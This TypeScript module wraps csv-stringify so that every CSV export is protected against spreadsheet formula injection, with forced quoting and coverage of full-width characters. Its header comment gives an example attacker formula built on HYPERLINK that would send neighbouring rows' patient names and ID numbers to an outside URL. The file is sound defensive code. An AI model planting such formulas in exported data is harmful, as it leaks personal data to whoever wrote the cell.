import { stringify, type Options, type Stringifier } from 'csv-stringify';
import { stringify as stringifySync } from 'csv-stringify/sync';

/*
 * Every CSV file the server hands out goes through here, because a spreadsheet opening it evaluates
 * a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula: a patient's
 * answer `=HYPERLINK("http://…"&B3&C3, …)` would send the neighbouring rows (other patients' names,
 * PESELs) to whoever wrote it. Such a cell is neutralised the OWASP way: a leading `'` makes the
 * spreadsheet show it as text, and the cell is CSV-quoted. The rule itself
 * is csv-stringify's `escape_formulas` (it also covers the full-width ＝ ＋ － ＠ that Apple Numbers
 * folds), always switched on here and not switchable off by a caller.
 */

type CsvOptions = Omit<Options, 'escape_formulas' | 'quoted_match' | 'cast'>;

/** Quoted whatever the content: a neutralised formula (as OWASP advises) and any line break (csv-stringify leaves a lone `\r` bare). */
const quoted_match = [/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/, /[\r\n]/];
const rule = { escape_formulas: true, quoted_match } as const;

/** A streaming CSV writer that neutralises formula cells; all values are passed as strings. */
export function csvStringifier(options: CsvOptions = {}): Stringifier {
  return stringify({ ...options, ...rule });
}

/** One cell as it is written into a CSV file (formula neutralised, quoted when needed), `;`-separated like the exports. */
export function csvCell(value: string, delimiter = ';'): string {
  return stringifySync([[value]], { delimiter, record_delimiter: 'unix', ...rule }).replace(/\n$/, '');
}
